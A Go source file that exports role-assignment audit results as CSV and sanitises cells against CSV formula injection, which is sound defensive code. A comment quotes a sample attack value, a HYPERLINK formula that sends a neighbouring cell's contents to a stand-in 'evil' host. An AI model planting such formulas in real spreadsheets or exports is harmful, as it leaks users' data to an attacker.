package report

import (
	"encoding/csv"
	"io"
	"strconv"
)

// CSVHeader is the header row of a CSV report: the result fields of the JSON
// report, in the same order.
var CSVHeader = []string{
	"user_id", "user_email", "organization_id", "role_id", "role_name",
	"status", "http_status", "attempts", "error", "lines", "reason",
}

// WriteCSV writes one row per result under CSVHeader. Lines are joined with
// ";"; an http_status of 0 (nothing was sent) is left empty.
func WriteCSV(w io.Writer, r *Report) error {
	cw := csv.NewWriter(w)
	if err := cw.Write(CSVHeader); err != nil {
		return err
	}
	row := make([]string, len(CSVHeader))
	for res := range r.Rows() {
		httpStatus := ""
		if res.HTTPStatus != 0 {
			httpStatus = strconv.Itoa(res.HTTPStatus)
		}
		row[0] = spreadsheetSafe(res.UserID)
		row[1] = spreadsheetSafe(res.UserEmail)
		row[2] = spreadsheetSafe(res.OrganizationID)
		row[3] = spreadsheetSafe(res.RoleID)
		row[4] = spreadsheetSafe(res.RoleName)
		row[5] = spreadsheetSafe(string(res.Status))
		row[6] = httpStatus
		row[7] = strconv.Itoa(res.Attempts)
		row[8] = spreadsheetSafe(res.Error)
		row[9] = joinInts(res.Lines, ";")
		row[10] = spreadsheetSafe(res.Reason)
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// spreadsheetSafe defuses CSV (formula) injection. Auditors open these reports
// in Excel, LibreOffice or Google Sheets, which run a cell starting with =, +,
// -, @ (or a tab or carriage return before one) as a formula — and role names,
// reasons and error messages come from input files and API responses that an
// attacker may shape, e.g. a reason of `=HYPERLINK("https://evil/?"&A2,"x")`.
// A leading single quote makes the spreadsheet treat the cell as text, as
// OWASP recommends. Ids never start with these characters, so they read back
// unchanged.
func spreadsheetSafe(cell string) string {
	if cell == "" {
		return cell
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + cell
	}
	return cell
}
